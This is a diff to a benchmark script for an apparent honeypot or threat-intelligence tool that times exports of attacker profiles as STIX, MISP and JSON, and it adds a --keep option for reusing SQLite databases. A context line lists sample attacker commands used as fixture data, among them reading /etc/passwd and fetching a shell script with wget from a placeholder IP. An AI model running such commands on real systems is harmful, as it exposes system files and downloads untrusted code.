@@ -14,11 +14,13 @@
  * ATT&CK tags from the shipped catalog): folding millions of log lines
  * through the profiler first would take longer than the exports.
  *
- *   npm run build && node --import tsx bench/export.js [--attackers 100000] [--formats stix,misp,navigator,json] [--json FILE]
+ *   npm run build && node --import tsx bench/export.js [--attackers 100000] [--formats stix,misp,navigator,json] [--json FILE] [--keep DIR]
+ *
+ * --keep DIR keeps the databases in DIR (export-N.sqlite) and reuses one already there.
  */
 import {spawn} from 'node:child_process'
 import {createHash} from 'node:crypto'
-import {mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs'
+import {existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs'
 import {tmpdir} from 'node:os'
 import {dirname, join} from 'node:path'
 import {fileURLToPath} from 'node:url'
@@ -38,6 +40,7 @@ const {values} = parseArgs({
     attackers: {default: '100000', type: 'string'},
     formats: {default: 'stix,misp,navigator,json', type: 'string'},
     json: {type: 'string'},
+    keep: {type: 'string'},
   },
 })
 const sizes = values.attackers.split(',').map((text) => positiveInteger(text, '--attackers'))
@@ -53,9 +56,9 @@ const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh 
 
 const results = []
 for (const size of sizes) {
-  const url = `sqlite:${join(work, `export-${size}.sqlite`)}`
-  const filled = await fill(url, size)
-  console.error(`filled ${size} attackers in ${filled.toFixed(1)} s`)
+  const file = join(values.keep ?? work, `export-${size}.sqlite`)
+  const url = `sqlite:${file}`
+  if (values.keep === undefined || !existsSync(file)) console.error(`filled ${size} attackers in ${(await fill(url, size)).toFixed(1)} s`)
   results.push({size, process: 'attackers --json --limit 50 (baseline)', ...(await measure(['attackers', '--json', '--limit', '50', '--db', url], 'stdout'))})
   results.push({size, process: `attackers --json --limit ${size} (baseline: all in memory)`, ...(await measure(['attackers', '--json', '--limit', String(size), '--db', url], 'stdout'))})
   for (const format of formats) results.push({size, process: `export ${format}`, ...(await measure(['export', format, '--db', url, '--output', join(work, `out.${format}`)], join(work, `out.${format}`)))})
